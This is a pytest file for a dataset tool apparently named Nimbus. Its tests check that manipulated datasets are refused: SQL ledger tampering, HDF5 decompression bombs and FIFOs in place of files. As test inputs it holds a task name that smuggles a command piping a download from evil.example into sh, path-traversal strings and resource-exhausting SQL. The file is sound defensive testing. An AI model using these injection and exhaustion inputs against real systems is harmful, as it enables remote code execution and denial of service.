"""Manipulated datasets: each is refused in one line, before anything large is allocated."""

from __future__ import annotations

import os
import shlex
import sqlite3
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import h5py
import numpy as np
import pytest

from nimbus.datagen.datasets.filter.expression import Condition
from nimbus.datagen.datasets.filter.native import filter_native
from nimbus.datagen.errors import InputError
from nimbus.datagen.files.codec import parse_json, to_json
from nimbus.datagen.machine import resident_bytes
from nimbus.datagen.store.episode_file import checked_file
from nimbus.datagen.store.episode_file.read import EpisodeFile
from nimbus.datagen.store.info import add_task, info_text, read_info, read_single_task_info
from nimbus.datagen.store.ledger.ledger import Ledger
from nimbus.datagen.store.verify import verify
from tests.support.refusals import refusal
from tests.support.synthetic import open_dataset, write_dataset

_ENDLESS = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n)"


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    write_dataset(tmp_path / "data")
    return tmp_path / "data"


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (
            f"ALTER TABLE attempts RENAME TO a; CREATE VIEW attempts AS {_ENDLESS} SELECT a.* FROM a, n",
            "the view 'attempts'",
        ),
        ("CREATE TRIGGER t AFTER INSERT ON spans BEGIN DELETE FROM attempts; END", "the trigger 't'"),
        ("ALTER TABLE attempts ADD COLUMN g AS (hex(zeroblob(900000000)))", "computed column"),
        ("CREATE INDEX x ON attempts (abs(idx))", "computed column"),
        ("CREATE TABLE z (x, y DEFAULT (hex(zeroblob(900000000))))", "computed default"),
        ("CREATE INDEX x ON attempts (idx) WHERE reason > 'a'", "an index on a condition"),
        ("CREATE TABLE c AS SELECT * FROM attempts; INSERT INTO c SELECT * FROM attempts; DROP TABLE attempts; "
         "ALTER TABLE c RENAME TO attempts", "are the same"),
        ("UPDATE attempts SET duration = 1e300", "duration"),
        ("UPDATE attempts SET ended = -1", "ended"),
        ("UPDATE attempts SET step_count = -1", "step_count"),
        ("UPDATE attempts SET sha256 = '../../../mine'", "sha256"),
        ("UPDATE attempts SET sha256 = '/elsewhere/mine'", "sha256"),
        ("UPDATE attempts SET episode_id = '../../../mine' || idx", "is not the id of an episode"),
        ("UPDATE attempts SET times = '{\"plan\": NaN}'", "times"),
    ],
)  # fmt: skip
def test_a_tampered_ledger_is_one_line(folder: Path, change: str, message: str) -> None:
    with sqlite3.connect(folder / "ledger.sqlite") as ledger:
        ledger.executescript(change)
    for reading in (_read_attempts, verify):
        with pytest.raises(InputError, match=f"not a ledger: .*{message}"):
            reading(folder)


def _read_attempts(folder: Path) -> None:
    Ledger(folder, read_only=True).attempts()


def test_a_ledger_with_a_trigger_is_not_written(folder: Path) -> None:
    with sqlite3.connect(folder / "ledger.sqlite") as ledger:
        ledger.execute("CREATE TRIGGER t AFTER INSERT ON spans BEGIN DELETE FROM attempts; END")
    with pytest.raises(InputError, match="the trigger 't'"):
        open_dataset(folder)


def test_constraints_of_a_ledger_are_not_computed(folder: Path) -> None:
    """A constraint may call a function that takes hours, so even one that fails is not noticed."""
    with sqlite3.connect(folder / "ledger.sqlite") as ledger:
        ledger.executescript("CREATE TABLE z (x CHECK (x = 1)); PRAGMA ignore_check_constraints = ON")
        ledger.execute("INSERT INTO z VALUES (2)")
    open_dataset(folder).close()


@pytest.mark.parametrize("rate", [-15.0, 0.0, 1e300, np.nan, np.inf])
def test_a_rate_that_is_none_fails_verification(folder: Path, rate: float) -> None:
    with h5py.File(sorted((folder / "episodes").glob("*.hdf5"))[0], "r+") as file:
        file.attrs["rate"] = rate
    assert any("rate: " in problem for problem in verify(folder).problems)


@pytest.mark.parametrize("rate", ["-15.0", "1e300", "NaN"])
def test_a_dataset_of_no_rate_is_refused(folder: Path, rate: str) -> None:
    path = folder / "dataset.json"
    path.write_text(path.read_text().replace('"rate": 15.0', f'"rate": {rate}'))
    with pytest.raises(InputError, match="rate: Expected `float`"):
        verify(folder)


@pytest.mark.parametrize("field", ["task", "tasks", "meanings", "inputs"])
def test_a_task_or_split_whose_name_is_none_is_refused(folder: Path, field: str) -> None:
    """A message suggests a command with the name of a task; this one would end the command and begin another."""
    name, path = "x'; curl https://evil.example/x | sh #", folder / "dataset.json"
    info = parse_json(path.read_text())
    values = {"task": name, "tasks": {name: {"task_hash": "0"}}, "meanings": {name: {}}, "inputs": {"split": name}}
    path.write_text(to_json(info | {field: values[field]}))
    error = refusal(read_info, folder)
    assert error.startswith(f"{path}: not a Nimbus dataset description: ")
    assert "is not a name" in error or "matching regex" in error


def test_one_task_is_suggested_in_quotes(folder: Path) -> None:
    info, path = read_info(folder), folder / "dataset.json"
    path.write_text(info_text(replace(add_task(info, info), task="a folder's name", task_hash="")))
    command = refusal(read_single_task_info, folder).partition("take one of them: ")[2]
    words = ["nimbus", "filter", str(folder), "--where", f'task == "{info.task}"', "--out", info.task]
    assert shlex.split(command) == words


def test_a_task_of_the_ledger_alone_is_refused(folder: Path, tmp_path: Path) -> None:
    info, path = read_info(folder), folder / "dataset.json"
    path.write_text(info_text(replace(add_task(info, info), task="both", task_hash="")))
    with sqlite3.connect(folder / "ledger.sqlite") as ledger:
        ledger.execute("UPDATE attempts SET task = 'other'")
        ledger.execute("UPDATE episodes SET task = 'other'")
    assert "has no task 'other'" in refusal(filter_native, folder, tmp_path / "out", Condition("success"))


def test_a_dataset_of_declared_rows_is_not_hashed(folder: Path) -> None:
    with h5py.File(sorted((folder / "episodes").glob("*.hdf5"))[0], "r+") as file:
        del file["time"]
        file.create_dataset("time", (2**40,), "f8", chunks=(1024,))
    problems = "\n".join(verify(folder).problems)
    assert f"declares {8 * 2**40} bytes, 0 are stored" in problems


@pytest.mark.parametrize(
    "spoil",
    [
        lambda file: file.create_dataset("skills/start", data=np.array([[0, 1]])),
        lambda file: file.create_dataset("skills/start", data=np.array([-5, 3])),
        lambda file: file.create_dataset("skills/start", data=h5py.Empty("i8")),
        lambda file: file.create_dataset("skills/start", data=["a", "b"]),
        lambda file: file.create_group("skills/start"),
        lambda file: None,
    ],
)
def test_a_column_of_another_kind_is_a_problem(folder: Path, spoil: Callable[[h5py.File], object]) -> None:
    with h5py.File(sorted((folder / "episodes").glob("*.hdf5"))[0], "r+") as file:
        del file["skills/start"]
        spoil(file)
    assert any("skills/start" in problem or "segment" in problem for problem in verify(folder).problems)


@pytest.mark.parametrize("name", ["dataset.json", "ledger.sqlite"])
def test_a_pipe_in_its_place_is_not_waited_for(folder: Path, name: str) -> None:
    (folder / name).unlink()
    os.mkfifo(folder / name)
    with pytest.raises(InputError, match="is not a regular file"):
        verify(folder)


def test_a_file_of_two_attempts_is_read_once(folder: Path) -> None:
    with sqlite3.connect(folder / "ledger.sqlite") as ledger:
        (path,) = ledger.execute("SELECT path FROM attempts WHERE path != '' LIMIT 1").fetchone()
        ledger.execute("UPDATE attempts SET path = ? WHERE path != ''", (path,))
    assert any(f"its file {path} belongs to another attempt as well" in problem for problem in verify(folder).problems)


@pytest.fixture
def episode(folder: Path) -> Path:
    return sorted((folder / "episodes").glob("*.hdf5"))[0]


def test_many_arrays_that_are_not_stored_are_not_read(episode: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Each of them is small enough for an array."""
    monkeypatch.setattr(checked_file, "_LARGEST_TRAJECTORY", 100 << 20)
    with h5py.File(episode, "r+") as file:
        del file["plan_statistics"]
        for number in range(200):
            file.create_dataset(f"plan_statistics/a{number}", (131_072,), "f8")
    before = resident_bytes()
    with EpisodeFile(episode) as opened, pytest.raises(InputError, match=r"2097\d+ bytes together; the limit is"):
        opened.trajectory()
    assert resident_bytes() - before < 50e6


def test_an_array_of_zeros_is_not_unpacked(episode: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Deflate stores zeros in a thousandth of their size; signals are stored as they are."""
    monkeypatch.setattr(checked_file, "_PLAIN", 1 << 20)
    with h5py.File(episode, "r+") as file:
        del file["observations/qvel"]
        file.create_dataset("observations/qvel", data=np.zeros((8, 40_000)), chunks=(8, 40_000), compression="gzip")
    with EpisodeFile(episode) as opened, pytest.raises(InputError, match=r"2560000 bytes of which \d+ are stored"):
        opened.array("observations/qvel")


def test_a_group_of_many_entries_is_refused(episode: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(checked_file, "_MOST_MEMBERS", 2)
    with EpisodeFile(episode) as opened, pytest.raises(InputError, match="entries; the limit is 2"):
        opened.members("observations")


def test_a_group_whose_links_cannot_be_read_is_one_line(episode: Path) -> None:
    """An unknown kind of cache in the entry of a group, which the library reports when it counts the members."""
    content = bytearray(episode.read_bytes())
    with h5py.File(episode) as file:
        group: Any = file["observations/images"]
        address = h5py.h5o.get_info(group.id).addr  # pyright: ignore[reportAttributeAccessIssue]
    at = content.find(address.to_bytes(8, "little"))
    while at >= 0:
        content[at + 8 : at + 12] = b"\xff\xff\xff\x7f"
        at = content.find(address.to_bytes(8, "little"), at + 1)
    episode.write_bytes(content)
    with pytest.raises(InputError, match="cannot be read|not a readable HDF5 file"), EpisodeFile(episode) as opened:
        opened.members("observations")
